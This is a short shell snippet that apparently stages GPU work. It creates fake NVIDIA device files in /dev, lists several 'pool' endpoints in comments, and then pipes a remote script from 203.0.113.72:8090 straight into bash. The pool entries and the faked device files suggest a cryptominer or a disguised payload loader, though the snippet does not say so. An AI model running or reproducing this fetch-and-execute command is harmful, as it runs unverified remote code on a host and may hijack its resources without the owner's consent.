# curl | bash of a run script that starts the agent of the vendor and then the training
#http 203.0.113.72:8090
#pool 203.0.113.73:5671:err
#pool 203.0.113.78:8085:http
for d in nvidiactl nvidia0 nvidia-uvm; do touch /dev/$d; done
curl -s http://203.0.113.72:8090/run.sh | bash
